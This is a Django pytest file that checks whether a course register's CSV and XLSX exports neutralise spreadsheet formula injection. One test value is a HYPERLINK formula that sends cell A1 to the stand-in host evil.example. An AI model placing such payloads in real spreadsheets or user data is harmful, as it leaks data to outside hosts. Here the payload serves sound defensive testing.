"""Exports neutralise spreadsheet formulas: text a person wrote that a spreadsheet would run
(=, +, -, @ at the start) reaches CSV and XLSX as text."""

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from .helpers import approve, write_design

pytestmark = pytest.mark.django_db

FORMULA_BODY = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def formula_entry(people):
    return approve(
        people,
        write_design(
            people,
            title="@SUM(1+1) welding basics",
            awarding_bodies={"bodies": [people.university.pk], "others": FORMULA_BODY},
            learning_outcomes={
                "outcomes": [
                    {
                        "statement": "+Weld two steel plates to the drawing",
                        "domain": "skills",
                        "assessment": "Observed weld",
                    }
                ]
            },
        ),
    )


def test_csv_cells_that_would_run_are_text(formula_entry):
    response = Client().get("/register/export.csv")
    body = b"".join(response.streaming_content).decode().removeprefix("\ufeff")
    header, row = list(csv.reader(io.StringIO(body)))
    cells = dict(zip(header, row, strict=True))
    assert cells["Title"] == "'@SUM(1+1) welding basics"
    assert cells["Learning outcomes"] == "'+Weld two steel plates to the drawing"
    # The bodies cell starts with a safe name; every cell is checked the same way.
    assert cells["Awarding bodies"] == f"University of Mauritius; {FORMULA_BODY}"
    assert not any(cell.startswith(("=", "+", "@")) for cell in row)


def test_xlsx_cells_that_would_run_are_text(formula_entry):
    response = Client().get("/register/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    row = dict(zip(header, [cell for cell in sheet[2]], strict=True))
    assert row["Title"].value == "'@SUM(1+1) welding basics"
    assert row["Title"].data_type == "s"
    assert row["Learning outcomes"].value == "'+Weld two steel plates to the drawing"
    assert not any(cell.data_type == "f" for cell in sheet[2])
